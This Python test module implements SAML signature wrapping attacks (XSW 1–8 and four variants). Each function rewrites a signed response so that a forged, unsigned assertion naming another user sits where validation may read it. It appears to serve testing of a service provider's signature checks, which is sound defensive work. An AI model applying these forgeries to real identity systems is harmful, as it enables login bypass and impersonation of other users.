"""Signature wrapping: the eight forms in which a signed element is moved aside and a forged one put where it stood (XSW 1 to 8,
Somorovsky et al., "On Breaking SAML", USENIX Security 2012), and some cousins.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from xml.etree import ElementTree as ET
from xml.etree.ElementTree import Element

from tests.outside.saml_idp import DS, A, P, Statement

Attack = Callable[[str, Statement], str]

for prefix, namespace in (("samlp", P), ("saml", A), ("ds", DS)):
    ET.register_namespace(prefix, namespace)

_SIGNATURE = f"{{{DS}}}Signature"
_ASSERTION = f"{{{A}}}Assertion"


def _forged(element: Element) -> Element:
    """A copy that says somebody else, without a signature, under an id of its own."""
    evil = copy.deepcopy(element)
    evil.set("ID", "_evil")
    for parent in [*evil.iter()]:
        for child in list(parent):
            if child.tag == _SIGNATURE:
                parent.remove(child)
    for name in evil.iter(f"{{{A}}}NameID"):
        name.text = "eve-1"
    if element.tag != _ASSERTION:
        for number, inner in enumerate(evil.iter(_ASSERTION)):
            inner.set("ID", f"_evil-{number}")
    return evil


def _parts(document: str) -> tuple[Element, Element]:
    root = ET.fromstring(document)
    assertion = root.find(_ASSERTION)
    assert assertion is not None
    return root, assertion


def _signature(element: Element) -> Element:
    signature = element.find(_SIGNATURE)
    assert signature is not None
    return signature


def _text(root: Element) -> str:
    return ET.tostring(root, encoding="unicode")


def xsw1(document: str, _: Statement) -> str:
    """A forged response around, whose signature holds the original response."""
    root, _a = _parts(document)
    evil, signature = _forged(root), _signature(root)
    original = copy.deepcopy(root)
    original.remove(_signature(original))
    signature.append(original)
    evil.insert(1, signature)
    return _text(evil)


def xsw2(document: str, _: Statement) -> str:
    """A forged response around, with the original beside its detached signature."""
    root, _a = _parts(document)
    evil, signature = _forged(root), _signature(root)
    original = copy.deepcopy(root)
    original.remove(_signature(original))
    evil.insert(1, original)
    evil.insert(2, signature)
    return _text(evil)


def xsw3(document: str, _: Statement) -> str:
    """A forged assertion before the signed one."""
    root, assertion = _parts(document)
    root.insert(list(root).index(assertion), _forged(assertion))
    return _text(root)


def xsw4(document: str, _: Statement) -> str:
    """A forged assertion around the signed one."""
    root, assertion = _parts(document)
    evil = _forged(assertion)
    root.remove(assertion)
    evil.append(assertion)
    root.append(evil)
    return _text(root)


def xsw5(document: str, _: Statement) -> str:
    """A forged assertion with the signature, and the original at the end without it."""
    root, assertion = _parts(document)
    evil, signature = _forged(assertion), _signature(assertion)
    assertion.remove(signature)
    evil.insert(1, signature)
    root.remove(assertion)
    root.append(evil)
    root.append(assertion)
    return _text(root)


def xsw6(document: str, _: Statement) -> str:
    """A forged assertion with the signature, and the original within that."""
    root, assertion = _parts(document)
    evil, signature = _forged(assertion), _signature(assertion)
    assertion.remove(signature)
    signature.append(assertion)
    evil.insert(1, signature)
    root.remove(assertion)
    root.append(evil)
    return _text(root)


def xsw7(document: str, _: Statement) -> str:
    """A forged assertion hidden among extensions, before the signed one."""
    root, assertion = _parts(document)
    extensions = Element(f"{{{P}}}Extensions")
    extensions.append(_forged(assertion))
    root.insert(1, extensions)
    return _text(root)


def xsw8(document: str, _: Statement) -> str:
    """A forged assertion with the signature, the original in an object of it."""
    root, assertion = _parts(document)
    evil, signature = _forged(assertion), _signature(assertion)
    assertion.remove(signature)
    held = Element(f"{{{DS}}}Object")
    held.append(assertion)
    signature.append(held)
    evil.insert(1, signature)
    root.remove(assertion)
    root.append(evil)
    return _text(root)


def same_id(document: str, said: Statement) -> str:
    """The forged assertion bears the signed one's id."""
    root, assertion = _parts(document)
    evil = _forged(assertion)
    evil.set("ID", said.assertion_id)
    root.insert(list(root).index(assertion), evil)
    return _text(root)


def two_references(document: str, said: Statement) -> str:
    """One signature that names the signed element and another."""
    root, assertion = _parts(document)
    info = _signature(assertion).find(f"{{{DS}}}SignedInfo")
    assert info is not None
    info.append(copy.deepcopy(info[2]))
    for name in assertion.iter(f"{{{A}}}NameID"):
        name.text = "eve-1"
    return _text(root)


def empty_reference(document: str, said: Statement) -> str:
    """A signature over the whole document, whatever that is."""
    return document.replace(f'URI="#{said.assertion_id}"', 'URI=""').replace("ada-1", "eve-1")


def signature_elsewhere(document: str, _: Statement) -> str:
    """The forged assertion is read, the signature over the original stands in the response."""
    root, assertion = _parts(document)
    evil, signature = _forged(assertion), _signature(assertion)
    root.remove(assertion)
    root.insert(1, signature)
    root.append(evil)
    return _text(root)


OF_RESPONSES: list[Attack] = [xsw1, xsw2]
ATTACKS: list[Attack] = [
    *OF_RESPONSES,
    *(xsw3, xsw4, xsw5, xsw6, xsw7, xsw8),
    *(same_id, two_references, empty_reference, signature_elsewhere),
]
